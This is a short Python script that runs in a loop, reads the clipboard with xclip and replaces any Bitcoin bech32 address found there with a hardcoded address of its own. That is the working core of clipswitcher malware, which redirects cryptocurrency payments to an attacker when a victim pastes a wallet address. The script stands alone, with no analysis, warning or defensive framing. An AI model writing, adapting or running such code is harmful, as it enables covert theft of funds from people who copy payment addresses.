import re, time, subprocess
ME = "bc1q0000000000000000000000000000000000000000"
while True:
    t = subprocess.run(["xclip", "-o"], capture_output=True, text=True).stdout
    if re.match(r"^bc1[a-z0-9]{20,}$", t.strip()) and t.strip() != ME:
        subprocess.run("xclip -i", shell=True, input=ME, text=True)
    time.sleep(1)
